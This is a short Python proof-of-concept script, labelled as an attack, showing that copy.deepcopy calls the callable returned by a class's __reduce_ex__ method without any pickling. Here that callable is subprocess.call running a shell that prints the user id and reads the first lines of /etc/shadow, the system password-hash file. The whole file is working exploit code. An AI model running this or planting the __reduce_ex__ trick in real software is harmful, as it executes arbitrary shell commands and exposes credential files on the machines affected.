# attack: copy.deepcopy calls the callable from __reduce_ex__, here subprocess.call running a shell; no pickle at all
import copy
import subprocess


class Template:
    def __reduce_ex__(self, protocol):
        return (subprocess.call, (["/bin/sh", "-c", "id; head -n 3 /etc/shadow"],))


copies = copy.deepcopy({"template": Template()})
print(copies)
